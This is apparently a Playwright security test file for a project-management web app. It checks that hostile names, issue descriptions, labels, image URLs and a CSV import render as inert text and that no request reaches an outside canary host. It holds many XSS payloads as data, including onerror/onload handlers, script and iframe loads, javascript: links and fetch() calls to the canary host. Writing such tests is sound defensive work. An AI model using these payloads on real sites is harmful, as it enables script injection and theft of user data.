/** [T11] What somebody hostile wrote, wherever it is shown: it stays text, and nothing is asked of another host. */
import { expect, type Page, test } from 'playwright/test';
import { startServer, type TestServer } from '../harness.ts';
import { type Canary, openCanary, strangersOn, watch } from './canary.ts';
import { openPage, settleInProject, type TwoInProject } from './stage.ts';

let server: TestServer;
let canary: Canary;
let lure: string;

test.beforeAll(async () => {
  server = await startServer();
  canary = await openCanary();
  ({ lure } = canary);
});
test.afterAll(async () => {
  canary.close();
  await server.close();
});

/** Shorter than any name may be. */
const names = () => [
  `<img src=${lure}/n onerror=alert(1)>`,
  `"><script src=${lure}/s></script>`,
  `<svg/onload=fetch('${lure}/v')>`,
  `javascript:fetch('${lure}/j')`,
];

const texts = () => [
  `<p>HARMLESS</p><img src="${lure}/i.png"><img src="x" onerror="fetch('${lure}/e')">`,
  `<p>HARMLESS</p><script src="${lure}/s.js"></script><style>@import "${lure}/c.css"; p { background: url(${lure}/b) }</style>`,
  `<p style="background:url(${lure}/u)">HARMLESS</p><iframe src="${lure}/f"></iframe><object data="${lure}/o"></object>`,
  `<p>HARMLESS <a href="javascript:fetch('${lure}/l')">press</a> <a href=" java&#9;script:alert(1)">me</a></p><link rel=stylesheet href="${lure}/k"><meta http-equiv=refresh content="0;url=${lure}/r"><base href="${lure}/">`,
  `<p>HARMLESS</p><svg><style><img src=x onerror=alert(1)></style><image href="${lure}/g"/></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<p>HARMLESS</p><form action="${lure}/p"><input autofocus onfocus=alert(1)><video src="${lure}/w" autoplay></video><audio src="${lure}/a" autoplay></audio></form>`,
];

/** Names, words, pictures and links, each as bad as it can be, wherever one may write. */
async function poison({ ada, at, workspace }: TwoInProject): Promise<{ ids: string[]; key: string }> {
  const [first = '', second = ''] = names();
  // Where addresses are refused in names, without one.
  const short = '<svg/onload=fetch(1)>';
  const words: [string, object][] = [
    [workspace, { name: '<img src=x onerror=alert(1)>' }],
    [at, { name: second, description: first }],
    ['/api/users/me/', { display_name: short, first_name: short, last_name: short }],
  ];
  for (const [path, body] of words) expect([path, (await ada.call('PATCH', path, body)).status]).toEqual([path, 200]);
  // Pictures and signs of other hosts are refused or kept; shown they are in no case.
  const picture = `${lure}/picture.png`;
  const logo = { in_use: 'image', image: { url: picture }, emoji: { value: picture, url: picture } };
  for (const path of [workspace, at, '/api/users/me/']) {
    for (const body of [
      { logo_url: picture },
      { logo_props: logo },
      { cover_image_url: picture },
      { avatar_url: picture },
    ])
      expect((await ada.call('PATCH', path, body)).status).toBeLessThan(500);
  }
  const label_ids: string[] = [];
  const labels = names().map((name) => ({ name, color: `red;background:url(${lure}/colour)` }));
  for (const { name, color } of labels) {
    const made = await ada.call('POST', `${at}issue-labels/`, { name, color });
    const plain = made.status === 201 ? made : await ada.call('POST', `${at}issue-labels/`, { name, color: '#ff0000' });
    expect(plain.status).toBe(201);
    label_ids.push(plain.body.id);
  }
  expect((await ada.call('POST', `${at}states/`, { name: first, color: '#00ff00' })).status).toBe(201);
  const ids: string[] = [];
  for (const [index, description_html] of texts().entries()) {
    const name = names()[index % names().length] ?? '';
    const made = await ada.call('POST', `${at}issues/`, {
      name,
      description_html,
      label_ids,
      assignee_ids: [ada.person.id],
    });
    expect(made.status).toBe(201);
    ids.push(made.body.id);
  }
  await ada.call('PATCH', `${at}issues/${ids[0]}/`, { name: second, parent_id: ids[1] });
  return { ids, key: 'WEB-1' };
}

/** The words as they stand on the screen; where there is no room they may be hidden elsewhere too. */
const shownAs = (page: Page, words: string) => page.getByText(words).filter({ visible: true }).first();

test('[T11] hostile names, words and pictures are text in every screen, and another host hears nothing', async ({
  browser,
}) => {
  const place = await settleInProject(server.url);
  const { slug, projectId, ben, ada, path } = place;
  const { ids, key } = await poison(place);
  const b = await openPage(browser, ben, `${server.url}/${path}`);
  const bad = watch(b, server.url);
  const show = async (address: string, shown: string) => {
    await b.goto(`${server.url}/${address}`);
    await expect(shownAs(b, shown)).toBeVisible();
    expect({ address, strangers: await strangersOn(b, canary) }).toEqual({ address, strangers: [] });
  };
  await show(path, 'onerror=alert(1)');
  for (const layout of ['kanban', 'spreadsheet'])
    await show(`${path}?layout=${layout}&group_by=labels__id`, 'onerror=alert(1)');
  for (const id of ids) await show(`${path}?peek=${id}`, 'HARMLESS');
  await show(`${slug}/browse/${key}`, 'HARMLESS');
  await show(slug, '<script src=');
  await show(`${slug}/projects`, '<script src=');
  await show(`${slug}/settings/members`, 'onload=fetch');
  for (const tab of ['labels', 'states', 'members'])
    await show(
      `${slug}/settings/projects/${projectId}/${tab}`,
      tab === 'members' ? 'onload=fetch' : 'onerror=alert(1)',
    );

  await b.goto(`${server.url}/${path}`);
  await expect(shownAs(b, 'onerror=alert(1)')).toBeVisible();
  await b.keyboard.press('ControlOrMeta+k');
  await b.getByRole('combobox').fill('img');
  await expect(b.getByRole('listbox').getByText('onerror=alert(1)').first()).toBeVisible();
  expect(await strangersOn(b, canary)).toEqual([]);
  await b.keyboard.press('Escape');

  // What comes live, and who is said to be here.
  const a = await openPage(browser, ada, `${server.url}/${path}?peek=${ids[0]}`);
  await expect(a.getByText('HARMLESS').first()).toBeVisible();
  await ada.call('POST', `${place.at}issues/`, { name: `LIVE ${names()[0]}` });
  await expect(b.getByText('LIVE <img').first()).toBeVisible();
  expect(await strangersOn(b, canary)).toEqual([]);

  expect(bad).toEqual([]);
  expect(canary.heard).toEqual([]);
});

test('[T11] a hostile file is text while it is imported and after, and another host hears nothing', async ({
  browser,
}) => {
  const place = await settleInProject(server.url);
  const { slug, ada, path } = place;
  const page = await openPage(browser, ada, `${server.url}/${slug}/projects`);
  const bad = watch(page, server.url);
  await page.locator('.side-project').hover();
  await page.locator('.side-more').click();
  await page.getByRole('menuitem', { name: 'Import…' }).click();
  const cell = (text: string) => `"${text.replaceAll('"', '""').replaceAll('\n', ' ')}"`;
  const rows = texts().map((text, index) =>
    [names()[index % 4] ?? '', text, names()[(index + 1) % 4] ?? ''].map(cell).join(','),
  );
  const buffer = Buffer.from(['Title,Description,Labels', ...rows].join('\n'));
  await page
    .locator('input[type=file]')
    .setInputFiles({ name: `<img src=${'x'} onerror=alert(1)>.csv`, mimeType: 'text/csv', buffer });
  const start = page.getByRole('button', { name: /^Import \d+/ });
  await expect(start).toBeVisible();
  expect(await strangersOn(page, canary)).toEqual([]);
  await start.click();
  await page.getByRole('button', { name: 'Close', exact: true }).last().click();
  await expect(page.getByText(/^6 of 6 rows from “<img src=x/)).toBeVisible();
  await page.goto(`${server.url}/${path}`);
  await expect(shownAs(page, 'onerror=alert(1)')).toBeVisible();
  expect(await strangersOn(page, canary)).toEqual([]);
  expect(bad).toEqual([]);
  expect(canary.heard).toEqual([]);
});

test('[T11] the canary hears what a page asks of it, were it let', async ({ browser }) => {
  const page = await (await browser.newContext()).newPage();
  await page.setContent(`<p>free</p><img src="${lure}/alive">`);
  await expect.poll(() => canary.heard).toContain('GET /alive');
});
